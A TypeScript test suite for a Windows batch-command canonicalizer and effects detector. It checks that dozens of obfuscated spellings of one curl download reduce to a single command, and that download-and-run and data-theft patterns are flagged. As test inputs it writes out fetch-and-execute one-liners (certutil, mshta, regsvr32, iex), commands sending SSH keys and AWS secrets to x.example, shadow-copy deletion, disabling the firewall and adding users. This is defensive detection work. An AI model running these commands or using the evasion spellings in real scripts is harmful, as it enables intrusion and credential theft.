import assert from "node:assert/strict";
import { canonical } from "./canonical.ts";
import { effects, encoded, lowerWindows, places, plain } from "./windows-canonical.ts";

const fetch = "curl -o=f -- http://x.example/a";
const words = "-o f http://x.example/a";

/** Each is the one command, however it is dressed. */
const dressings: readonly string[] = [
  `curl ${words}`,
  `CURL.EXE ${words}`,
  `@curl ${words}`,
  `c^u^r^l ${words}`,
  `"curl" ${words}`,
  `c"u"rl ${words}`,
  `C:\\Windows\\System32\\curl.exe ${words}`,
  `%SystemRoot%\\System32\\curl.exe ${words}`,
  `%windir%/system32/curl ${words}`,
  `curl ^\r\n  ${words}`,
  `,;=curl ${words}`,
  `(curl ${words})`,
  `set a=curl\n%a% ${words}`,
  `set "a=curl"\n%A% ${words}`,
  `set a=cu&set b=rl\n%a%%b% ${words}`,
  `set a=xcurlx\n%a:~1,4% ${words}`,
  `set a=xcurlx\n%a:~1,-1% ${words}`,
  `set a=xcurl\n%a:~-4% ${words}`,
  `set a=cXurl\n%a:X=% ${words}`,
  `set a=vuul\n%a:vu=cu%`.replace("%a:vu=cu%", `%a:vuu=cur% ${words}`),
  `set a=curl ${words}\n%a%`,
  `set a=echo x^&curl ${words}\n%a%`.replace("echo x^&", ""),
  `set a=curl\nset b=%a%\n%b% ${words}`,
  `setlocal enabledelayedexpansion\nset a=curl\n!a! ${words}`,
  `cmd /v:on /c "set a=curl&&!a! ${words}"`,
  `cmd /c curl ${words}`,
  `cmd /c "curl ${words}"`,
  `cmd.exe /s /q /c "curl ${words}"`,
  `%COMSPEC% /c curl ${words}`,
  `c^m^d /C"curl ${words}"`,
  `cmd /c cmd /c cmd /c curl ${words}`,
  `call curl ${words}`,
  `set a=curl\ncall %%a%% ${words}`,
  `start curl ${words}`,
  `start "" /b /min curl ${words}`,
  `start /wait "title" curl ${words}`,
  `for %%i in (curl) do %%i ${words}`,
  `for %i in (curl) do @%i ${words}`,
  `for /f %%i in ("curl x") do %%i ${words}`,
  `for /f "tokens=2 delims=," %%i in ("x,curl,y") do %%i ${words}`,
  `for /f "tokens=1,2" %%i in ("cu rl") do %%i%%j ${words}`,
  `for /f "usebackq tokens=*" %%i in (\`echo curl ${words}\`) do %%i`,
  `for /f "delims=" %%i in ('echo curl') do %%i ${words}`,
  `for /l %%i in (1,1,1) do curl ${words}`,
  `set u=lcxru\nfor %%i in (1,4,3,0) do set f=!f!!u:~%%i,1!\n%f% ${words}`,
  `set u=lruc\nfor /l %%i in (3,-1,0) do set "f=!f!!u:~%%i,1!"\n%f:urlx=url% ${words}`,
  `cmd /v:on /c"set u=lcxru&&for %a in (1,4,3,0,9) do set f=!f!!u:~%a,1!&&if %a==9 call %f:~0,4% ${words}"`,
  `,;cmd,;/c,curl ${words}`,
  `if exist x curl ${words}`,
  `if not "%1"=="" curl ${words}`,
  `if /i %1 EQU 3 (curl ${words})`,
  `if 1==2 (set x=1) else curl ${words}`,
  `rem x\ncurl ${words}`,
  `:: x\ncurl ${words}`,
  `:label\ncurl ${words}`,
  `goto :b\n:b\ncurl ${words}`.replace("goto :b\n", ""),
  `curl ${words} >nul 2>&1`,
  `curl -of http://x.example/a`,
  `runas /user:a "curl ${words}"`,
  `forfiles /c "curl ${words}"`,
  `wmic process call create "curl ${words}"`,
  `schtasks /create /tn t /tr "curl ${words}"`,
  `wsl curl ${words}`,
  `bash -c "curl ${words}"`,
  `powershell -c "curl.exe ${words}"`,
  `powershell -enc ${encoded(`curl.exe ${words}`)}`,
  `mshta vbscript:x & curl ${words}`.replace("mshta vbscript:x & ", ""),
  `echo off & curl ${words}`,
];

/** Lines of what only prepares or wraps the command are not what this is about. */
const others = /^(?:set|setlocal|echo|runas|forfiles|wmic|schtasks|wsl|pwsh|cmd)(?: |$)/;

describe("batch code in one spelling", () => {
  it("is proved by at least sixty dressings", () => {
    assert.ok(dressings.length >= 60, `there are ${dressings.length}`);
  });

  for (const written of dressings) {
    it(`prints ${JSON.stringify(written)} as the one command`, () => {
      assert.deepEqual(
        plain("cmd", written).filter((line) => !others.test(line)),
        [fetch],
      );
    });
  }

  it("is entered from other shells", () => {
    assert.deepEqual(canonical(`cmd.exe /c "c^url ${words}"`).slice(0, 1), [fetch]);
    assert.deepEqual(plain("powershell", `cmd /c "c^url ${words}"`), [fetch]);
  });

  const lines: readonly (readonly [string, ...string[]])[] = [
    ["reg ADD HKEY_CURRENT_USER\\X /V n /d v /F", "reg add /d=v /f /v=n -- 'HKCU\\X'"],
    ["sc config s start= disabled", "sc config start=disabled -- s"],
    ["NET USER a b /ADD", "net user /add -- a b"],
    ["netsh advfirewall set allprofiles state off", "netsh -- advfirewall set allprofiles state off"],
    ["vssadmin Delete Shadows /All /Quiet", "vssadmin delete shadows /all /quiet"],
    ["del /f/s/q C:\\x", "del /f /q /s -- 'C:\\x'"],
    ["rd/s/q x", "rd /q /s -- x"],
    ["type f", "get-content -Path=f"],
    ["cd..&dir/b", "cd -- ..", "dir -- /b"],
    ["echo.hello world", "echo -- .hello world"],
    ["taskkill /IM x.exe /F", "taskkill /f /im=x.exe"],
    ["certutil.exe -urlcache -f u f", "certutil -f -urlcache -- u f"],
    ["bitsadmin /transfer j /priority high http://x.example/a C:\\a", "bitsadmin /priority=high /transfer -- j http://x.example/a 'C:\\a'"],
    ["a & b && c || d | e", "a", "b", "c", "d | e"],
    ["(a & b) | c", "a | c", "b | c"],
    ["for %%i in (a b) do x %%i", "x -- a", "x -- b"],
    ["for /l %%i in (1,1,254) do ping 10.0.0.%%i", 'ping -- "10.0.0.$UNKNOWN"'],
    ["if x==y (set a=1) else (set a=2)\nx %a%", "set -- a=1", "set -- a=2", "x -- '1'", "x -- '2'"],
    ["x %1 %UNSET%", 'x -- "$UNKNOWN" "$UNSET"'],
    ["set /a n=2*(3+4)\nx %n%", "set -- 'n=2*(3+4)'", "x -- '14'"],
    ["x 100%", "x -- 100%"].slice(0, 1).concat("x -- '100%'") as [string, ...string[]],
    ["%X%", '"$X"'],
    ['timeout /t 5 & find "x" f', "timeout -- /t '5'", "find -- x f"],
  ];
  for (const [written, ...expected] of lines) {
    it(`prints ${JSON.stringify(written)}`, () => assert.deepEqual(plain("cmd", written), expected));
  }
});

describe("effects of batch code", () => {
  const url = "http://x.example/a";
  const rows: readonly (readonly [string, ...string[]])[] = [
    [`certutil -urlcache -split -f ${url} a.exe & a.exe`, `:fetch ${url} | :write a.exe`, `:fetch ${url} | :run a.exe`],
    [`bitsadmin /transfer j ${url} C:\\t\\a.exe\nC:\\t\\a.exe`, `:fetch ${url} | :run C:/t/a.exe`],
    [`curl ${url} -o a.bat && call a.bat`, `:fetch ${url} | :run a.bat`],
    [`cd /d C:\\t & curl -o a.exe ${url} & C:\\t\\a.exe`, `:fetch ${url} | :run C:/t/a.exe`],
    [`curl -s ${url} | cmd`, `:fetch ${url} | :run cmd`],
    [`for /f "delims=" %%i in ('curl -s ${url}') do %%i`, `:fetch ${url} | :run cmd`],
    [`for /f "delims=" %%i in ('curl -s ${url}') do cmd /c %%i`, `:fetch ${url} | :run cmd`],
    [`mshta ${url}`, `:fetch ${url} | :run hta`],
    [`regsvr32 /s /n /u /i:${url} scrobj.dll`, `:fetch ${url} | :run dll`],
    [`powershell iex(iwr ${url})`, `:fetch ${url} | :run powershell`],
    [`curl -o a.dll ${url} & rundll32 a.dll,Start`, `:fetch ${url} | :run dll`],
    [`msiexec /q /i ${url}`, `:fetch ${url} | :run msi`],
    ["type %USERPROFILE%\\.ssh\\id_rsa | curl -d @- http://x.example", ":read ~/.ssh/id_rsa | :send x.example"],
    ["curl -T C:\\Users\\me\\.ssh\\id_rsa http://x.example", ":read ~/.ssh/id_rsa | :send x.example"],
    ["set | curl -d @- http://x.example", ":env '*' | :send x.example"],
    ["curl http://x.example/?%AWS_SECRET_ACCESS_KEY%", ":env AWS_SECRET_ACCESS_KEY | :send x.example"],
    ["set /p k=<C:\\Users\\me\\k & call curl http://x.example/%%k%%", ":read ~/k | :send x.example"],
    ["echo x>> %APPDATA%\\a.txt", ":write ~/AppData/Roaming/a.txt"],
    ["(echo a & echo b) > f", ":write f"],
    ["copy a b", ":read a | :write b"],
    ["setx PATH C:\\x", ":set PATH 'C:\\x'"],
    ["set http_proxy=http://x.example", ":set http_proxy http://x.example"],
    ["echo aXdyIHU= > a & certutil -decode a b.ps1 & powershell -f b.ps1", ":read a | :write b.ps1", ":read a | :run powershell"],
    [`echo curl ${url} ^| cmd > a.bat & a.bat`, `:fetch ${url} | :run cmd`],
    ["echo @curl http://x.example/k -d @C:\\Users\\me\\.ssh\\id_rsa > a.cmd & call a.cmd", ":read ~/.ssh/id_rsa | :send x.example"],
  ];
  for (const [written, ...expected] of rows) {
    it(`finds ${expected.join(", ")} in ${JSON.stringify(written)}`, () => {
      const found = effects("cmd", written);
      for (const effect of expected) assert.ok(found.includes(effect), `found:\n${found.join("\n")}`);
    });
  }

  const silent = [`curl ${url}`, `echo curl ${url} ^| cmd`, `rem curl ${url} | cmd`, `echo "x | cmd"`, 'dir | find "x"', "set x=1"];
  for (const written of silent) {
    it(`lets nothing run or leave in ${JSON.stringify(written)}`, () => {
      assert.deepEqual(
        effects("cmd", written).filter((line) => / :(run|send) /.test(line)),
        [],
      );
    });
  }
});

describe("places of batch code", () => {
  it("marks a command from its name to its last word", () => {
    assert.deepEqual(places("cmd", '@echo off\r\n  curl "u v" >nul & b\r\n'), ["echo off", 'curl "u v"', "b"]);
  });
  it("marks what a text holds where it stands in the text", () => {
    assert.deepEqual(places("cmd", 'cmd /c "a & b c"'), ["a", "b c"]);
  });
  it("marks what came out of a variable where it is used", () => {
    assert.deepEqual(places("cmd", "set a=b^&c\n%a%").slice(1), ["%a%", "%a%"]);
  });
});

describe("batch code that cannot be read", () => {
  const blocking = (text: string) => lowerWindows("cmd", text).problems.filter(({ weight }) => weight === "blocking");

  it("loses one statement to a mistake in it, and says where", () => {
    const text = "a\nfor x do y\n) z\nb";
    assert.deepEqual(plain("cmd", text), ["a", "b"]);
    assert.deepEqual(
      blocking(text).map(({ code, start }) => `${code} ${text[start]}`),
      ["unparsed f", "unparsed )"],
    );
  });
  it("reads what stands in a bracket that is never closed, and says so", () => {
    assert.deepEqual(plain("cmd", "if x==y (\na\nb"), ["a", "b"]);
    assert.equal(blocking("if x==y (\na\nb").length, 1);
  });
});
